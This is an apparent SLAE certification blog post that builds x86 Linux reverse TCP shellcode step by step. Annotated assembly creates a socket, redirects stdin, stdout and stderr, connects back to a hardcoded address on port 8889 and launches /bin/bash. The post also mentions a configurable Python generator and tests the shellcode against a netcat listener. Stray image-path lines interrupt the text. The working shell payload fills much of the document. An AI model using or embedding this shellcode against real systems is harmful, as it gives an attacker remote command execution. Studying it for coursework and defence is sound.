SLAE Assignment #2 – Reverse TCP Shell

Assignment #2 for the SLAE certification asks the student to do the following:

  • Create a Shell_Reverse_TCP shellcode
    1. Reverse connects to configured IP and port
    2. Execs Shell on successful connection
  • IP and Port should be easily configurable

Analysis of Metasploit Shellcode

Similar to the Bind shell post, I began this assignment by using msfvenom to generate a reverse tcp shellcode, and then piped that shellcode into libemu for analysis. This would allows you to quickly see what syscalls are being made by the shellcode to create the reverse TCP shell. The output from libemu is shown below:

This actually looked a little bit more simple than the bind TCP shellcode. Instead of needing to make a socket, and then a bind, listen, and accept call, the reverse TCP shell only needs to make the “connect” call after creating the socket.

The steps for the shellcode would be as follows:

  • Create a TCP socket,
  • duplicate the file descriptor for the socket into stdin, stdout, and stderr
  • Create a socket connection
  • launch the shell with execve

Assembly CodeThe first two components of the shellcode, creating the socket and the file descriptors, is the same as it was for the bind tcp shellcode. This allowed for the code to be reused for the reverse TCPshellcode.

Creating the “socket” sys_socketcall

Same as with the bind TCP shellcode, the reverse TCP shellcode needs to create a netwrok scoket. This will be a AF_INET/IPv4, sock_stream TCP socket. The assembly code to do this is below:

xor eax,eax
xor ebx,ebx
push eax
; this is pushing 0x0 to the stack which will be the “int protocol” param for sys_socket for a tcp socket
inc ebx
push ebx ; this is pushing 0x1 to the stack which will be the “int type” param for sys_socket for a SOCK_STREAM
push byte 0x2 ; push 0x2 to stack. Will be “int domain” param for sys_socket, which is AF_INET/IPv4
mov ecx, esp ; put the address of the stack pointer into ECX. This is a pointer for the arguments passed to sys_socket
mov al, 0x66
int 0x80

After this syscall completes successfully, the value of the file descriptor for the socket is stored in EAX. To save this value for later use, the EDX and EAX registers have their values swapped.

; after the socket syscall the socket FD is saved in EAX. Save that value in edx to be used later
xor edx,edx

xchg edx, eax

Creating the stdin, stdout, and stderr file descriptors

The “dup2” syscall will be used to duplicate the socket file descriptor into the file descriptors 0, 1, and 2. This will provide the shell with access to stdin, stdout, and stderr. This is done with a simple loop and using ECX as both a counter for the loop and the value for the “new” file descriptor for thesocket file descriptor to be copied into.; set up the input/output for the accept connection. Will need to use dup2 to copy the
mov ebx,edx ; edx contains the FD for the socket. Move value EAX into EBX as EBX needs the FD value for the dup2 call
xor ecx,ecx
mov cl, 0x2 ; ecx is being used for the “new” FD to duplicate the socket FD in. Need it to be for 0,1,2
mov al, 0x3f
int 0x80
dec ecx
jns dup

Creating the “connect” sys_socketcall

Unlike the Bind TCP shell, the reverse TCP shell will make the network connection itself instead of waiting for an incoming connection. This requires the shellcode to use the connect sys_socketcall. The requirements for the connect call can be found with “man 2 connect”.

The socket file descriptor is currently being stored in EDX and can be pushed onto the stack to be used for the connect call.

“const struct sockaddr *addr” is a pointer to the network address to connect to. This is similar to what was provided to the “bind” sys_socketcall used in the Bind tcp shell. However, for the reverse TCP shell, a specific IPv4 address will need to be provided. The IP address “” would be represented in hex as “7f010101.” This would be pushed onto the stack in reverse order, as “0x0101017f.”

After the IPv4 address is provided, the port number and the value “2” are provided for the AF_INET/IPv4 connection. After all the address information is on the stack, the stack pointer value is moved in ECX. The assembly looks like this:

; Create a connection to the specified IP address and port. This uses the “connect” of sys_socketcall, which will be 3; for the address, each “byte” is the octet of an IP address. So, looks like 0x0101017f when you push it onto the stack
; this is setting up the sockaddr needed for connect
push 0x0101017f ; the IP address to connect to,
push word 0xB922 ; TCP port to use, 8889
push word 0x2 ; this is making sure the connection is AF_INET/IPv4
mov ecx, esp ; put the stack pointer address in ECX to be used in the sys_socketcall syscall

With the sockaddr value setup, the stack can be setup for theconnect sys_socketcallbe done. First the length of the address, 0x10 or 16 is pushed onto the stack, then the memory address to sockaddr stored in ECX is pushed, and then finally the value of EDX, which is the socket file descriptor is pushed.

; now push the parameters needed for the connect syscall onto the stack
push 0x10 ; this is the length of the address for socklen_t addrlen
push ecx ; pointer to the sockaddr info, const struct sockaddr *addr
push edx ; Fd for the socket
mov ecx, esp ; after above is done, set ECX to the stack pointer address so it can all be passed to sys_socketcall
mov al, 0x66
int 0x80 ; making the syscall for sys_socketcall connect

Providing the shell

Finally, the execve syscall is made to launch /bin/bash so the connection has a shell. The assembly code is:

; after the new FD’s have been created, need to set up the execve call for /bin/bash so that the new connection gets a shell
;push the dword of nulls onto the stack
xor eax,eax
push eax

;push the string of “////bin/bash” onto the stack. Extra slashes to pad out the string to a multiple of fourpush 0x68736162
push 0x2f6e6962
push 0x2f2f2f2f

; ////bin/bash is on the stack, at the ESP register. So, to get the address of the location of the string into ebx, mov esp into ebx
mov ebx, esp
; push another null to get EDX to point to a memory address that is a dword of nulls
push eax
mov edx, esp

; now for ecx, we need the address of EBX on the stack
push ebx
mov ecx, esp
; make the syscall
mov al, 0xb
int 0x80

When this is executed, the application will make a connection to address over port 8889 and provide a /bin/bash shell.

Testing the reverse TCP shellTo begin, a netcat listener was started to accept connections over port 8889. Then, the assembly code was compiled and executed.

The connection was received by netcat, and a shell was provided to the connection.

The reverse TCP connection was successful, and a shell was received!

The assembly code for this reverse TCP shell can be found here:

Configurable reverse TCP shellcode

A python script was developed to accept an IPv4 address and port number from theuser, and then print out the shellcode of a reverse TCP shell to be launched in a shellcode runner.

Usage of the python script can be seen below:

When the shellcode output from the python script was copied into a shellcode runner and executed, it was received by a netcat listener:

The python script performs checks for the user to make sure that aproperly formatted IPv4 addressis provided, that the TCP portnumber is valid, and makes sure that the address and port number do not result in any nulls or “\x00” values in the shellcode.

The python scriptcan be found here:

All of the shellcode, scripts, and notes used for this can be found at:

SLAE Student Disclaimer

This blog post has been created for completing the requirements of the SecurityTube LinuxAssembly Expert certification:Student ID: SLAE- 1373